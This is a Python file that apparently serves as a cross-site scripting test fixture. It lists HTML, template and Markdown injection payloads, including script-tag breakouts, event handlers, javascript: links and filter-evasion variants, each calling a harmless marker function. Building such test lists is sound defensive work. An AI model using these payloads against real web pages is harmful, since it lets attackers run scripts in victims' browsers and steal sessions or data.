"""Thirty ways to smuggle a script into a page, and some more for texts in Markdown. Each would call one function."""

MARK = "xssmark"
PAYLOADS = [
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f'"><script>{MARK}()</script>',
    f"'><img src=x onerror={MARK}()>",
    f"javascript:{MARK}()",
    f"<a href=javascript:{MARK}()>x</a>",
    f"</title><script>{MARK}()",
    f"</textarea><script>{MARK}()</script>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<body onload={MARK}()>",
    f"<input autofocus onfocus={MARK}()>",
    f"<details open ontoggle={MARK}()>",
    f"<math><mi xlink:href=javascript:{MARK}()>",
    f"<style>@import '{MARK}'</style>",
    f"<link rel=stylesheet href={MARK}>",
    f"<base href=//{MARK}>",
    f"<meta http-equiv=refresh content=0;{MARK}>",
    f"<object data={MARK}>",
    f"<embed src={MARK}>",
    f"<form action=//{MARK}><button>",
    f"{{{{ {MARK} }}}}",
    f"{{% {MARK} %}}",
    f"${{{MARK}}}",
    f"`{MARK}` **{MARK}** `<b>{MARK}</b>`",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"\\u003cscript\\u003e{MARK}",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<!--><script>{MARK}</script>",
    f'" onmouseover="{MARK}()',
    f"' autofocus onfocus='{MARK}()",
    f"<x hx-get=/ hx-trigger=load>{MARK}",
    f"<b data-confirm={MARK}>",
    f"]]><script>{MARK}</script>",
]
# Several in one value: each would break out by itself, and the first of each stands at its beginning.
BATCHES = [" ".join(PAYLOADS[first::6]) for first in range(6)]

# What Markdown could be talked into, where a text is written in it.
MARKDOWN = [
    f"[x](javascript:{MARK}())",
    f"[x](  jAvAsCrIpT:{MARK}())",
    f"[x](data:text/html,<script>{MARK}()</script>)",
    f"[x](//x 'y\" onmouseover=\"{MARK}()')",
    f'![x](x "y" onerror={MARK}()")',
    f'![x" onerror="{MARK}()](attachment:x)',
    f"<javascript:{MARK}()>",
    f"[x]: javascript:{MARK}()\n\n[x]",
    f'```"><script>{MARK}()</script>\n```',
    f"# <img src=x onerror={MARK}()>",
    f"| <svg onload={MARK}()> |\n|---|\n| <script>{MARK}()</script> |",
]
